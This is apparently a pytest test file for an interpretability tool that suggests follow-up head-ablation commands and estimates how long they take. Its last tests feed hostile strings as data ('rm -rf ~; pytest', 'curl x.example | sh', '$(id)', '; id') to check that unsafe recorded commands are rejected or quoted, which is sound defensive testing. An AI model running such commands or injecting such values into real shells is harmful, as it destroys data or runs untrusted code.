"""Commands that follow from a run's verdict, and about how long they take."""

from __future__ import annotations

import re
import shlex
from dataclasses import replace

import pytest

from reasoning_probe.data.generators import generate
from reasoning_probe.data.items import ItemError
from reasoning_probe.report.effects import groups
from reasoning_probe.report.html.findings import findings_html
from reasoning_probe.report.next_steps import next_steps, repeat_command
from reasoning_probe.results.outcome import Outcome
from reasoning_probe.results.run import Run
from tests.helpers.fake_runs import as_run, every_head, fake_outcomes, outcome
from tests.helpers.html_pages import Page
from tests.helpers.terminal_lines import summary_lines

STARTED = {
    "command": "pytest probes --ablate-heads",
    "started": "2026-01-02T03:04:05+00:00",
    "commit": None,
    "prompts": {},
}


def started(outcomes: list[Outcome], **settings: object) -> Run:
    run = as_run(outcomes, **settings)
    return Run(run.summary | {"invocation": dict(STARTED)}, run.outcomes)  # type: ignore[arg-type]


def commands(run: Run) -> list[str]:
    return [step.command for step in next_steps(run)]


def swept(right: int, items: int = 40) -> list[Outcome]:
    heads = ["baseline", *every_head()]
    return [outcome(item=f"i{n}", target=head, correct=n < right) for head in heads for n in range(items)]


def test_named_heads_are_confirmed_on_new_items_by_mean_and_jointly() -> None:
    run = started(fake_outcomes({"arithmetic": 200}))
    begin = "pytest probes --ablate-heads"
    assert commands(run) == [
        f"{begin} --probe-heads L1H3,L2H0 --probe-items arithmetic=200@200",
        f"{begin} --probe-heads L1H3,L2H0 --ablation mean",
        f"{begin} --probe-heads L1H3+L2H0",
    ]
    # 7 s for the model and 45 s for 17 targets; the first two steps ask three of them, the last one two.
    run.summary["timing"] |= {"load_s": 5.0, "proof_s": 2.0}
    assert [step.time for step in next_steps(run)] == ["about 15 s", "about 15 s", "about 12 s"]
    shown = Page(findings_html(run)).text
    assert all(command in shown for command in commands(run))


def test_too_few_items_call_for_more() -> None:
    (step,) = next_steps(started(fake_outcomes({"arithmetic": 5}, noise=0)))
    assert step.command == "pytest probes --ablate-heads --probe-items arithmetic=200@5"
    assert step.time == "about 35 min"  # 40 times 52 s


def test_an_unused_chat_template_comes_first() -> None:
    run = started(swept(7), prompting={"chat_template_unused": True})
    assert commands(run)[0] == "pytest probes --ablate-heads --probe-chat on"
    assert f"  {next_steps(run)[0].command}" in summary_lines(run)
    page = Page(findings_html(run)).text
    assert page.index("The model answers 18 % right without its chat template") < page.index("is shown to matter")
    assert "--probe-chat on" not in commands(started(swept(39), prompting={"chat_template_unused": True}))


def of_finding(finding: str) -> Run:
    """Return a run of two named heads, of none, or of one in which nothing could be significant."""
    if finding == "found":
        return started(fake_outcomes({"arithmetic": 200}))
    right = {"none": 40, "few_items": 6, "few_right": 4, "floor": 0}[finding]
    outcomes = swept(right, 6 if finding == "few_items" else 40)
    assert [group.finding for group in groups(as_run(outcomes))] == [finding]
    return started(outcomes)


@pytest.mark.parametrize("dataset", ["arithmetic", "mine"])
@pytest.mark.parametrize("finding", ["found", "none", "few_items", "few_right", "floor"])
def test_every_verdict_ends_with_a_command_and_its_time(finding: str, dataset: str) -> None:
    run = of_finding(finding)
    run = started([replace(case, dataset=dataset) for case in run.outcomes])
    steps = next_steps(run)
    assert steps
    assert all(step.command.endswith(step.options) and step.time.startswith("about ") for step in steps)


def test_a_run_without_targets_is_told_how_to_switch_heads_off() -> None:
    (step,) = next_steps(started([outcome(item=str(n)) for n in range(8)]))
    assert step.options == "--ablate-heads"


def test_a_run_that_ended_early_goes_on_by_its_own_command() -> None:
    run = started(swept(39))
    run.summary["partial"] = {"planned": 1360, "done": 680}
    (step,) = next_steps(run)
    assert (step.command, step.options) == ("pytest probes --ablate-heads", "")


def test_a_step_leaves_out_what_holds_for_all_items_and_heads() -> None:
    run = started(fake_outcomes({"arithmetic": 200}))
    command = "pytest probes --probe-reference=ref.jsonl --probe-max-drop 0.1 --probe-screen 8 --ablate-heads"
    run.summary["invocation"] = STARTED | {"command": command}  # type: ignore[typeddict-item]
    assert commands(run)[1] == "pytest probes --ablate-heads --probe-heads L1H3,L2H0 --ablation mean"


def test_a_step_replaces_the_options_that_the_run_gave() -> None:
    run = started(fake_outcomes({"arithmetic": 200}))
    command = "pytest probes --probe-heads=L0,L1 --ablation zero --probe-items 200 -q"
    run.summary["invocation"] = STARTED | {"command": command}  # type: ignore[typeddict-item]
    assert commands(run) == [
        "pytest probes --ablation zero -q --probe-heads L1H3,L2H0 --probe-items arithmetic=200@200",
        "pytest probes --probe-items 200 -q --probe-heads L1H3,L2H0 --ablation mean",
        "pytest probes --ablation zero --probe-items 200 -q --probe-heads L1H3+L2H0",
    ]


@pytest.mark.parametrize(
    ("options", "asked_items", "expected"),
    [
        ("", 5, "arithmetic=200@5"),
        ("--probe-dataset arithmetic=arithmetic:digits=1", 5, "arithmetic=107@5"),  # 112 in all
        ("--probe-dataset=arithmetic=arithmetic:digits=1", 5, "arithmetic=107@5"),
        ("--probe-items arithmetic=5@100 --probe-dataset arithmetic=arithmetic:digits=1", 5, "arithmetic=7@105"),
        ("--probe-items arithmetic=5@107 --probe-dataset arithmetic=arithmetic:digits=1", 5, None),
        ("--probe-dataset arithmetic=mine.jsonl", 5, None),
    ],
)
def test_new_items_are_as_many_as_the_dataset_still_has(options: str, asked_items: int, expected: str | None) -> None:
    run = started(fake_outcomes({"arithmetic": asked_items}, noise=0))
    run.summary["invocation"] = STARTED | {"command": f"pytest probes --ablate-heads {options}"}  # type: ignore[typeddict-item]
    specs = [step.options.removeprefix("--probe-items ") for step in next_steps(run) if "--probe-items" in step.options]
    assert specs == ([] if expected is None else [expected])


def test_a_generator_has_the_items_that_a_step_asks_for_and_no_more() -> None:
    run = started(fake_outcomes({"arithmetic": 5}, noise=0))
    command = "pytest probes --probe-dataset arithmetic=arithmetic:digits=1"
    run.summary["invocation"] = STARTED | {"command": command}  # type: ignore[typeddict-item]
    (step,) = next_steps(run)
    count, first = map(int, step.options.rpartition("=")[2].split("@"))
    assert len(generate("arithmetic:digits=1", first + count)) == first + count
    with pytest.raises(ItemError, match=f"ask for {first + count} or fewer"):
        generate("arithmetic:digits=1", first + count + 1)


def typed(lines: list[str]) -> str:
    """Return what a shell runs of *lines*: the first, and as many more as it is continued on."""
    text, rest = lines[0], lines[1:]
    while text.endswith("\\"):
        text, rest = text[:-1] + rest[0], rest[1:]
    return text


@pytest.mark.parametrize("width", [60, 80, 120])
def test_the_terminal_prints_commands_that_a_shell_takes_as_they_stand(width: int) -> None:
    run = started(fake_outcomes({"arithmetic": 200}))
    for verbosity, steps in ((0, next_steps(run)[:2]), (1, next_steps(run))):
        lines = summary_lines(run, width, verbosity)
        assert sum(line.startswith("next: ") for line in lines) == len(steps)
        for step in steps:
            (place,) = (number for number, line in enumerate(lines) if line.startswith(f"next: {step.reason}"[:50]))
            assert width < 80 or lines[place] == f"next: {step.reason} ({step.time}):"
            assert shlex.split(typed(lines[place + 1 :])) == shlex.split(step.command)
    assert not any(line.startswith("next") for line in summary_lines(run, 80, -1))


def test_of_a_long_command_the_terminal_prints_what_to_add() -> None:
    run = started(fake_outcomes({"arithmetic": 200}))
    run.summary["invocation"] = STARTED | {"command": f"pytest {'probes/ ' * 40}"}  # type: ignore[typeddict-item]
    lines = summary_lines(run, 80)
    assert "  the same command with --probe-heads L1H3,L2H0 --ablation mean" in lines


def test_a_run_whose_command_is_not_known_has_no_steps() -> None:
    assert next_steps(as_run(fake_outcomes({"arithmetic": 5}))) == []


def test_answers_of_the_store_say_nothing_of_the_time() -> None:
    engine = {"rows": 1, "verified": 1, "decoded": 0, "settled_singly": 0, "recalled": 9}
    (step,) = next_steps(started(fake_outcomes({"arithmetic": 5}, noise=0), engine=engine))
    assert step.time == ""


@pytest.mark.parametrize(
    ("items", "expected"),
    [
        (["add-1", "b"], "pytest probes --ablate-heads -k '[add-1] or [b]'"),
        (["not"], "pytest probes --ablate-heads -k '[not]'"),
        (["two words"], None),
        ([f"i{n}" for n in range(21)], None),
        ([], None),
    ],
)
def test_items_are_repeated_where_k_can_name_them(items: list[str], expected: str | None) -> None:
    assert repeat_command(started([outcome()]), items) == expected


@pytest.mark.parametrize(
    "command",
    [
        *("pytest 'a", "pytest \\", "", " ", "rm -rf ~; pytest", "curl x.example | sh #", "pytest\nrm -rf ~"),
        *("pytest \x1b[2J", "pytest \u202e", "pytest \ud800", "pytest " + "x" * 20_000, "/tmp/pytest", "env pytest"),
    ],
)
def test_a_run_of_others_whose_command_is_none_has_no_steps(command: str) -> None:
    run = started(fake_outcomes({"arithmetic": 200}))
    run.summary["invocation"]["command"] = command  # type: ignore[index]
    assert next_steps(run) == []
    assert repeat_command(run, ["arithmetic-1"]) is None


@pytest.mark.parametrize("evil", ["$(id)", "`id`", "; id", "| id", "&& id", "> file", "{a,b}", "~", "*", "!x"])
def test_a_command_of_others_runs_nothing_but_pytest(evil: str) -> None:
    """Each word is quoted, so that a shell gives it to pytest as it is."""
    run = started(fake_outcomes({"arithmetic": 200}))
    run.summary["invocation"]["command"] = f"pytest probes {evil}"  # type: ignore[index]
    for command in [*commands(run), str(repeat_command(run, ["arithmetic-1"]))]:
        assert shlex.split(command)[: 2 + len(evil.split())] == ["pytest", "probes", *evil.split()]
        lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
        lexer.wordchars += "".join(set(command) - set("();<>|&'\" "))
        assert list(lexer) == shlex.split(command)  # there is no operator
        assert not any(mark in re.sub("'[^']*'", "", command) for mark in ("$", "`", "*", "{", "~", "!", ";", "|", "&"))
